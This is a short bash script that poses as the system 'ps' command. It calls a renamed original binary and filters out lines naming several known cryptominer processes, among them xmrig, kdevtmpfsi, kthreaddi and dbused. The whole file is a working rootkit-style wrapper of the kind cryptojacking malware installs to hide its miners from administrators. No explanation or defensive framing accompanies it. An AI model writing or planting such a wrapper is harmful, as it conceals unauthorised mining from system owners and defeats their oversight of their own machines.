#!/bin/bash
oldps=`which ps`.original
$oldps $@ | grep -v "kthreaddi" | grep -v "dbused" | grep -v "xmrig" | grep -v "\.configrc" | grep -v "kdevtmpfsi"
